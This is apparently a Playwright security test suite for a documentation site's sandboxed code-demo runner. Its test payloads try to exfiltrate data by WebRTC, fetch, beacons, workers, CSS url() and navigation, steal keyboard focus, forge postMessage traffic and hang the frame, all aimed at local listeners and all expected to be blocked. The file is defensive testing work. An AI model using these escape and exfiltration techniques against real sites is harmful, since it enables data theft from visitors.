import dgram from 'dgram';
import fs from 'fs';
import http from 'http';
import net from 'net';
import path from 'path';
import type { Request } from '@playwright/test';
import { expect, onConsole, onRequest, visit as test, waitForApp } from './support';
import { DEMO_SELECTOR, demoId, frameAnswers, openFirstDemoCode, replaceCode, ROUTE, shareAddress, SHOWN_FRAME } from './sandboxSupport';

/**
 * Edited and shared code runs only in the sandboxed runner frame (src/sandbox): a share address
 * waits for "Run shared code", hostile code cannot touch the site, send data away (WebRTC
 * included) or keep the keyboard focus, a frame stuck in native code is torn down, and the page
 * ignores messages that do not come from its frame. The loop guard's checks
 * are in sandbox-guard.spec.ts, which also runs with the frame in the page's process.
 */

/** What the hostile shared code tries: the page's title, the site's storage, a credentialed request. */
const HOSTILE = `import React from 'react';
try { top.document.title = 'owned'; } catch (error) {}
try { localStorage.setItem('owned', 'yes'); } catch (error) {}
fetch('/?x', { credentials: 'include' }).catch(() => undefined);
export default function Hostile() {
  return <p>hostile code ran</p>;
}
`;

test('a share address shows the code without running it; Run shared code runs it where it cannot reach the site', async ({
  page,
}) => {
  await page.goto(ROUTE);
  await waitForApp(page);
  const id = await demoId(page);
  const title = await page.title();
  const requests: Request[] = [];
  onRequest(page, (request) => {
    if (new URL(request.url()).search === '?x') requests.push(request);
  });
  const refusals: string[] = [];
  onConsole(page, (message) => {
    if (/connect-src/.test(message.text())) refusals.push(message.text());
  });

  await page.goto('about:blank');
  await page.goto(shareAddress(id, HOSTILE));
  await waitForApp(page);
  const box = page.locator(`[id="${id}"]`);
  const run = box.getByRole('button', { name: 'Run shared code' });
  await expect(run).toBeVisible();
  // the shared code is shown to read, in the demo's code view
  await expect(box.getByRole('region', { name: /^Source code: / })).toContainText("top.document.title = 'owned'");
  // the original demo, and no frame, no request, nothing written
  await expect(box.locator('.rcp-previewer-demo').getByText('500 items', { exact: true })).toBeVisible();
  await expect(box.locator('iframe')).toHaveCount(0);
  expect(await page.title()).toBe(title);
  expect(await page.evaluate(() => localStorage.getItem('owned'))).toBeNull();
  expect(requests).toEqual([]);

  await run.click();
  const frame = box.frameLocator(SHOWN_FRAME);
  await expect(frame.getByText('hostile code ran')).toBeVisible();
  await expect(box.getByRole('button', { name: 'Run shared code' })).toHaveCount(0);
  expect(await page.title()).toBe(title);
  expect(await page.evaluate(() => localStorage.getItem('owned'))).toBeNull();
  // blocked by the runner's connect-src 'none'; had it gone, it would carry Origin: null
  await expect.poll(() => refusals.length + requests.length).toBeGreaterThan(0);
  for (const request of requests) expect(await request.headerValue('origin')).toBe('null');
  expect(await box.locator(SHOWN_FRAME).getAttribute('sandbox')).toBe('allow-scripts');
});

test('the Chinese page names the button in Chinese', async ({ page }) => {
  await page.goto(`zh-CN/${ROUTE}`);
  await waitForApp(page);
  const id = await demoId(page);
  await page.goto('about:blank');
  await page.goto(`zh-CN/${shareAddress(id, HOSTILE)}`);
  await waitForApp(page);
  await expect(page.locator(`[id="${id}"]`).getByRole('button', { name: '运行分享的代码' })).toBeVisible();
});

test('a message posted to the page from another frame changes nothing', async ({ page }) => {
  const box = await openFirstDemoCode(page);
  await replaceCode(page, "export default function Edited() {\n  return <p>edited demo</p>;\n}\n");
  const frame = box.locator(SHOWN_FRAME);
  await expect(box.frameLocator(SHOWN_FRAME).getByText('edited demo')).toBeVisible();
  const height = await frame.evaluate((element) => element.getBoundingClientRect().height);
  const title = await page.title();

  // another runner frame, sandboxed like ours (its origin is 'null' too), posts what ours would, and worse
  await page.evaluate((src) => {
    const other = document.createElement('iframe');
    other.id = 'hostile';
    other.setAttribute('sandbox', 'allow-scripts');
    other.src = src;
    document.body.appendChild(other);
  }, (await frame.getAttribute('src'))!);
  const hostile = (await (await page.locator('#hostile').elementHandle())!.contentFrame())!;
  await hostile.waitForLoadState('load');
  const delivered = page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        // added after the page's own listener: resolves once that one has seen every message
        const other = document.getElementById('hostile') as HTMLIFrameElement;
        window.addEventListener('message', (event) => {
          if (event.source === other.contentWindow && event.data === 'done') resolve();
        });
      }),
  );
  await hostile.evaluate(() => {
    const messages = [
      { channel: 'rcp-sandbox', type: 'ready' },
      { channel: 'rcp-sandbox', type: 'height', height: 5000, overlay: 5000 },
      { channel: 'rcp-sandbox', type: 'result', error: { kind: 'runtime', message: 'forged', stack: '' } },
      { channel: 'rcp-sandbox', type: 'result', error: { kind: 'stopped' } },
      { channel: 'rcp-sandbox', type: 'needLocale', id: 'de_DE' },
      { type: 'eval', code: 'document.title = "owned"' },
    ];
    for (let run = 0; run < 5; run++) for (const message of messages) parent.postMessage({ ...message, run }, '*');
    parent.postMessage('done', '*');
  });
  await delivered;
  // and React has drawn whatever they changed
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
  expect(await frame.evaluate((element) => element.getBoundingClientRect().height)).toBe(height);
  await expect(box.getByRole('alert')).toHaveCount(0);
  await expect(box.getByRole('status').filter({ hasText: /Stopped|forged/ })).toHaveCount(0);
  await expect(box.frameLocator(SHOWN_FRAME).getByText('edited demo')).toBeVisible();
  expect(await page.title()).toBe(title);
});

test('an edit of the size changer demo loads rc-select into the frame: the select shows and opens', async ({ page }) => {
  const source = fs.readFileSync(path.resolve(__dirname, '../../docs/demo/demos/sizer.tsx'), 'utf8');
  const edited = source.replace('Pick another page size.', 'Edited sizer.');
  expect(edited).not.toBe(source);
  await page.goto('demo/sizer');
  await waitForApp(page);
  const box = page.locator(DEMO_SELECTOR).first();
  await box.getByRole('button', { name: 'Show code' }).click();
  await box.getByRole('button', { name: 'Edit code' }).click();
  await replaceCode(page, edited);
  const frame = box.frameLocator(SHOWN_FRAME);
  await expect(frame.getByText('Edited sizer.')).toBeVisible();
  await frame.locator('.rc-pagination-options .rc-select').click();
  await expect(frame.locator('.rc-select-dropdown').getByText('50 / page')).toBeVisible();
});

/** A UDP socket (where a STUN request would go) and a TCP server (TURN) on this machine, counting what reaches them. */
async function listeners() {
  const udp = dgram.createSocket('udp4');
  const tcp = net.createServer((socket) => socket.destroy());
  const hits = { udp: 0, tcp: 0 };
  udp.on('message', () => (hits.udp += 1));
  tcp.on('connection', () => (hits.tcp += 1));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const servers = [
    { urls: `stun:127.0.0.1:${udp.address().port}` },
    { urls: `turn:127.0.0.1:${(tcp.address() as net.AddressInfo).port}?transport=tcp`, username: 'what-the-visitor-typed', credential: 'x' },
  ];
  const close = () => {
    udp.close();
    tcp.close();
  };
  return { hits, servers, close };
}

/**
 * Frame code that tries WebRTC by every way we know to get hold of it: the globals, and a child
 * frame's fresh realm made by each DOM path. It shows one line per way: "sent" or "refused".
 */
function webRtcAttempts(servers: unknown): string {
  return `const servers = ${JSON.stringify(servers)};
const lines: string[] = [];
const HTML = 'http://www.w3.org/1999/xhtml';
function childRealm(make: () => void): any {
  make();
  const child = (window as any)[0];
  if (!child) throw new Error('no child frame');
  return child;
}
const ways: [string, () => any][] = [
  ['RTCPeerConnection', () => (window as any).RTCPeerConnection],
  ['webkitRTCPeerConnection', () => (window as any).webkitRTCPeerConnection],
  ['createElement', () => childRealm(() => document.body.appendChild(document.createElement('iframe'))).RTCPeerConnection],
  ['createElementNS', () => childRealm(() => document.body.appendChild(document.createElementNS(HTML, 'x:IFRAME'))).RTCPeerConnection],
  ['innerHTML', () => childRealm(() => { const div = document.createElement('div'); div.innerHTML = '<iframe></iframe>'; document.body.appendChild(div); }).RTCPeerConnection],
  ['insertAdjacentHTML', () => childRealm(() => document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>')).RTCPeerConnection],
  ['createContextualFragment', () => childRealm(() => document.body.appendChild(document.createRange().createContextualFragment('<iframe></iframe>'))).RTCPeerConnection],
  ['DOMParser', () => childRealm(() => document.body.appendChild(document.adoptNode(new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe')!))).RTCPeerConnection],
  ['another document', () => childRealm(() => document.body.appendChild(document.adoptNode(document.implementation.createHTMLDocument('').createElement('iframe')))).RTCPeerConnection],
  ['XSLTProcessor', () => { new (window as any).XSLTProcessor(); throw new Error('made one'); }],
  ['object', () => childRealm(() => document.body.appendChild(document.createElement('object'))).RTCPeerConnection],
];
async function attempt(name: string, find: () => any) {
  try {
    const Peer = find();
    const peer = new Peer({ iceServers: servers });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
    lines.push(name + ': sent');
  } catch (error) {
    lines.push(name + ': refused');
  }
}
const done = Promise.all(ways.map(([name, find]) => attempt(name, find)));
export default function Leak() {
  const [shown, setShown] = React.useState('trying');
  React.useEffect(() => void done.then(() => setShown(lines.sort().join('; '))), []);
  return <p>{shown}</p>;
}
`;
}

test('no data leaves the frame by WebRTC, directly or through a child frame; the same code in a page does reach the listener', async ({
  page,
}) => {
  const frameSide = await listeners();
  const pageSide = await listeners();
  try {
    const box = await openFirstDemoCode(page);
    await replaceCode(page, `import React from 'react';\n${webRtcAttempts(frameSide.servers)}`);
    const shown = box.frameLocator(SHOWN_FRAME).getByText(/: (sent|refused)/);
    await expect(shown).toBeVisible();
    const lines = (await shown.textContent())!.split('; ');
    expect(lines.length).toBeGreaterThan(10);
    expect(lines.filter((line) => !line.endsWith(': refused'))).toEqual([]);

    // the control: the same request from the site's page (its policy does not cover WebRTC either)
    await page.evaluate(async (servers) => {
      const peer = new RTCPeerConnection({ iceServers: servers as RTCIceServer[] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
    }, pageSide.servers);
    await expect.poll(() => pageSide.hits.udp + pageSide.hits.tcp).toBeGreaterThan(0);
    expect(frameSide.hits).toEqual({ udp: 0, tcp: 0 });
  } finally {
    frameSide.close();
    pageSide.close();
  }
});

test("frame code that focuses itself every few ms does not get the keys typed into the site's search box", async ({ page }) => {
  const box = await openFirstDemoCode(page);
  await replaceCode(
    page,
    `import React, { useEffect, useRef } from 'react';
export default function Thief() {
  const input = useRef<HTMLInputElement>(null);
  useEffect(() => {
    const steal = () => {
      input.current?.focus();
      window.focus();
      document.body.focus();
    };
    const timer = setInterval(steal, 3);
    return () => clearInterval(timer);
  }, []);
  return <input ref={input} aria-label="thief" />;
}
`,
  );
  const thief = box.frameLocator(SHOWN_FRAME).getByRole('textbox', { name: 'thief' });
  await expect(thief).toBeVisible();
  const search = page.getByRole('combobox', { name: 'Search the documentation' });
  await search.click();
  const phrase = 'page size changer';
  await page.keyboard.type(phrase, { delay: 15 });
  await expect(search).toHaveValue(phrase);
  await expect(thief).toHaveValue('');
});

for (const [name, code] of [
  ['a catastrophic regular expression', "/^(a+)+$/.test('a'.repeat(64) + 'b');"],
  ['Array.prototype.includes on a huge array-like', 'Array.prototype.includes.call({ length: 2 ** 52 }, 1);'],
]) {
  test(`a frame stuck in native code (${name}) is torn down: the demo says it stopped and runs again`, async ({ page }) => {
    const box = await openFirstDemoCode(page);
    await replaceCode(page, `export default function Stuck() {\n  ${code}\n  return null;\n}\n`);
    await expect(box.getByRole('status').filter({ hasText: 'Stopped' })).toBeVisible();
    await expect(box.locator('iframe')).toHaveCount(0);
    await replaceCode(page, 'export default function Fine() {\n  return <p>fine again</p>;\n}\n');
    await expect(box.frameLocator(SHOWN_FRAME).getByText('fine again')).toBeVisible();
    await expect(box.getByRole('status').filter({ hasText: 'Stopped' })).toHaveCount(0);
  });
}

/**
 * Every other way out we tried from the frame (maintainers/sandbox-attacks.md):
 * requests, workers, prefetches, images, styles and fonts with a url(), eval. None reaches a
 * listener on another port; the frame shows which of them threw, for the failure message.
 */
test('no request of any kind leaves the frame: fetch, beacons, sockets, workers, prefetch, images, CSS url(), fonts', async ({ page }) => {
  const hits: string[] = [];
  const server = http.createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const at = `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`;
  try {
    const box = await openFirstDemoCode(page);
    await replaceCode(
      page,
      `import React from 'react';
const at = ${JSON.stringify(at)};
const lines: string[] = [];
function attempt(name: string, go: () => unknown) {
  try {
    const result = go();
    if (result instanceof Promise) result.catch(() => undefined);
    lines.push(name + ': no error');
  } catch (error) {
    lines.push(name + ': threw');
  }
}
const add = (tag: string, attributes: Record<string, string>) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  document.head.appendChild(element);
};
attempt('fetch', () => fetch(at + '/fetch'));
attempt('XMLHttpRequest', () => { const request = new XMLHttpRequest(); request.open('GET', at + '/xhr'); request.send(); });
attempt('sendBeacon', () => navigator.sendBeacon(at + '/beacon', 'typed'));
attempt('WebSocket', () => new WebSocket(at.replace('http', 'ws') + '/socket'));
attempt('EventSource', () => new EventSource(at + '/events'));
attempt('WebTransport', () => new (window as any).WebTransport(at.replace('http', 'https') + '/transport'));
attempt('Worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("' + at + '/worker")']))));
attempt('SharedWorker', () => new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + at + '/shared")']))));
attempt('serviceWorker', () => navigator.serviceWorker.register(at + '/sw.js'));
attempt('image', () => { new Image().src = at + '/image'; });
attempt('prefetch', () => add('link', { rel: 'prefetch', href: at + '/prefetch' }));
attempt('dns-prefetch', () => add('link', { rel: 'dns-prefetch', href: at + '/dns' }));
attempt('preconnect', () => add('link', { rel: 'preconnect', href: at + '/preconnect' }));
attempt('stylesheet link', () => add('link', { rel: 'stylesheet', href: at + '/style.css' }));
attempt('style url()', () => { const style = document.createElement('style'); style.textContent = 'body { background: url(' + at + '/css-url) } @import url(' + at + '/css-import);'; document.head.appendChild(style); });
attempt('constructed sheet url()', () => { const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background-image: url(' + at + '/sheet-url) }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; });
attempt('FontFace', () => new FontFace('leak', 'url(' + at + '/font)').load());
attempt('eval', () => eval('1'));
attempt('Function', () => new Function('return 1')());
attempt('string timer', () => (setTimeout as (code: string) => number)('fetch("' + at + '/timer")'));
export default function Tries() {
  return <p>{lines.join('; ')}</p>;
}
`,
    );
    const shown = box.frameLocator(SHOWN_FRAME).getByText(/fetch: /);
    await expect(shown).toBeVisible();
    // every attempt above was made by the time the text showed; a script run in the frame once
    // more lets what they queued start before we look
    await frameAnswers(box);
    expect(hits, (await shown.textContent()) ?? '').toEqual([]);
  } finally {
    server.close();
  }
});

test('a frame that navigates itself away is torn down at once, its address never reaches the other host, and the demo runs again', async ({
  page,
}) => {
  const asked: string[] = [];
  const server = http.createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('content-type', 'text/html');
    response.end('<p>another page</p>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // another origin than the site's (a sandboxed frame without the page's policy does reach it)
  const at = `http://localhost:${(server.address() as net.AddressInfo).port}`;
  try {
    const box = await openFirstDemoCode(page);
    await replaceCode(page, `export default function Away() {\n  location.href = ${JSON.stringify(`${at}/away?secret=1`)};\n  return <p>going</p>;\n}\n`);
    await expect(box.getByRole('status').filter({ hasText: 'Stopped' })).toBeVisible();
    await expect(box.locator('iframe')).toHaveCount(0);
    // the page's own policy (frame-src, from default-src 'self') refuses the frame's navigation
    expect(asked).toEqual([]);
    await replaceCode(page, 'export default function Fine() {\n  return <p>fine again</p>;\n}\n');
    await expect(box.frameLocator(SHOWN_FRAME).getByText('fine again')).toBeVisible();
  } finally {
    server.close();
  }
});
